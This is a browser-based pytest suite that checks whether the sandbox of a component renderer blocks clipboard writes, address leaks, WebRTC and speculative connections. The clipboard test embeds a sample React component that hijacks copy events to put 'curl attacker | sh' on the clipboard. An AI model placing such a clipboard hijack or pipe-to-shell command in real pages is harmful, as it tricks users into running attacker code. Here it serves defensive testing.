"""What CSP does not govern, tried on `jupyter componentgen render` pages in Chromium: the positive control of
the WebRTC cases (the listener does catch them outside the sandbox, so "nothing arrived" means something),
clipboard writes, the page's address inside the frame and in-page anchors, and the speculative connections
Chromium opens for URLs in markup (no bytes leave; counted for the threat model)."""

from __future__ import annotations

import io
import time
from contextlib import redirect_stderr
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, Page

from jupyter_componentgen.cli import main as cli_main

from .listener import NO_DATA, Listener, PageServer

pytestmark = pytest.mark.browser

HERE = Path(__file__).parent
CONTROL_TECHNIQUES = ["own", "srcdoc", "blank", "object", "embed", "document_open"]
SETTLE_SECONDS = 2.5
# Cases whose markup names the listener in a way Chromium may connect to speculatively.
SPECULATIVE_CASES = [
    "jsx_link_preconnect",
    "jsx_link_dns_prefetch",
    "jsx_link_prefetch",
    "jsx_link_stylesheet",
    "jsx_meta_refresh",
    "jsx_svg_image",
    "window_name_navigation",
    "location_navigation",
]

CLIPBOARD_COMPONENT = """
import { useEffect } from "react";

export default function CopyCommand() {
  useEffect(() => {
    const replace = (event) => {
      event.clipboardData.setData("text/plain", "curl attacker | sh");
      event.preventDefault();
    };
    document.addEventListener("copy", replace);
    return () => document.removeEventListener("copy", replace);
  }, []);
  const hijack = () => {
    const area = document.createElement("textarea");
    area.value = "curl attacker | sh";
    document.body.appendChild(area);
    area.select();
    document.execCommand("copy");
    navigator.clipboard.writeText("curl attacker | sh").catch(() => undefined);
  };
  return (
    <div>
      <button onClick={hijack}>Copy the install command</button>
      <p id="quote">pip install jupyter-componentgen</p>
    </div>
  );
}
"""

ANCHOR_COMPONENT = """
export default function Contents() {
  return (
    <div className="h-screen overflow-auto">
      <a id="jump" href="#the-end">Jump to the end</a>
      {Array.from({ length: 80 }, (_, i) => <p key={i}>Paragraph {i}</p>)}
      <h2 id="the-end">The end</h2>
    </div>
  );
}
"""


def _render(source: Path, out: Path) -> None:
    stderr = io.StringIO()
    with redirect_stderr(stderr):
        status = cli_main(["render", str(source), "--out", str(out), "--skip-static-checks"])
    assert status == 0, stderr.getvalue()


def _open(page: Page, url: str) -> Frame:
    """Load a rendered page; its component's frame once the component rendered."""
    page.goto(url)
    page.wait_for_function(
        "() => ['rendered', 'error'].includes(document.body.dataset.componentgenState)", timeout=60_000
    )
    assert page.evaluate("document.body.dataset.componentgenState") == "rendered"
    return page.frames[-1]


def test_the_listener_catches_every_webrtc_technique_outside_the_sandbox(
    browser: Browser, listener: Listener, page_server: PageServer, pages_dir: Path
) -> None:
    control = listener.fill((HERE / "webrtc_control.html").read_text(encoding="utf-8"))
    (pages_dir / "webrtc_control.html").write_text(control, encoding="utf-8")
    context = browser.new_context()
    caught: dict[str, list[str]] = {}
    try:
        for technique in CONTROL_TECHNIQUES:
            listener.take()
            page = context.new_page()
            page.goto(f"{page_server.url}/webrtc_control.html?t={technique}")
            time.sleep(SETTLE_SECONDS)
            assert page.title() == "ran", f"{technique}: {page.title()}"
            caught[technique] = [c.first_line for c in listener.take()]
            page.close()
    finally:
        context.close()
    for technique, lines in caught.items():
        assert any(line.startswith("UDP: STUN") for line in lines), (technique, lines)
        assert any("TURN Allocate" in line and not line.startswith("UDP") for line in lines), (
            technique,
            lines,
        )


def test_a_component_cannot_write_the_clipboard(
    browser: Browser, page_server: PageServer, pages_dir: Path
) -> None:
    source = pages_dir / "clipboard_component.jsx"
    source.write_text(CLIPBOARD_COMPONENT, encoding="utf-8")
    _render(source, pages_dir / "clipboard_component.html")
    context = browser.new_context()
    try:
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=page_server.url)
        page = context.new_page()
        frame = _open(page, f"{page_server.url}/clipboard_component.html")
        page.evaluate("() => navigator.clipboard.writeText('before')")
        frame.get_by_role("button", name="Copy the install command").click()
        time.sleep(0.5)
        assert page.evaluate("() => navigator.clipboard.readText()") == "before"
        # A copy the person makes copies what they selected, whatever the component's copy handler says.
        frame.locator("#quote").click(click_count=3)
        page.keyboard.press("Control+C")
        time.sleep(0.5)
        assert (
            page.evaluate("() => navigator.clipboard.readText()").strip()
            == "pip install jupyter-componentgen"
        )
    finally:
        context.close()


def test_in_page_anchors_scroll_inside_the_component_and_it_learns_no_address(
    browser: Browser, page_server: PageServer, pages_dir: Path
) -> None:
    source = pages_dir / "anchor_component.jsx"
    source.write_text(ANCHOR_COMPONENT, encoding="utf-8")
    _render(source, pages_dir / "anchor_component.html")
    page = browser.new_page()
    try:
        frame = _open(page, f"{page_server.url}/anchor_component.html")
        address = frame.evaluate(
            "() => ({base: document.baseURI, referrer: document.referrer, url: location.href})"
        )
        assert address == {"base": "about:srcdoc", "referrer": "", "url": "about:srcdoc"}
        frame.locator("#jump").click()
        time.sleep(0.5)
        assert page.frames[-1].url == "about:srcdoc"
        end = frame.locator("#the-end")
        assert end.is_visible()
        box = end.bounding_box()
        viewport = page.viewport_size
        assert box is not None
        assert viewport is not None
        assert 0 <= box["y"] < viewport["height"], f"#the-end is not in view after the jump: {box}"
    finally:
        page.close()


def test_speculative_connections_carry_no_bytes(
    browser: Browser, listener: Listener, page_server: PageServer, pages_dir: Path
) -> None:
    """Chromium may open a TCP connection (a handshake, no request) to a URL named in markup before CSP or
    the relay's frame-src refuses the load: out of scope (see the README's threat model), but measured."""
    counts: dict[str, int] = {}
    context = browser.new_context()
    try:
        for name in SPECULATIVE_CASES:
            source = pages_dir / f"{name}.speculative.jsx"
            source.write_text(
                listener.fill((HERE / "corpus" / f"{name}.jsx").read_text(encoding="utf-8")), encoding="utf-8"
            )
            _render(source, pages_dir / f"{name}.speculative.html")
            listener.take()
            page = context.new_page()
            page.goto(f"{page_server.url}/{name}.speculative.html")
            time.sleep(SETTLE_SECONDS)
            page.close()
            connections = listener.take()
            assert all(c.first_line == NO_DATA for c in connections), (
                name,
                [c.first_line for c in connections],
            )
            counts[name] = len(connections)
    finally:
        context.close()
    print("\nspeculative connections without data:", counts)
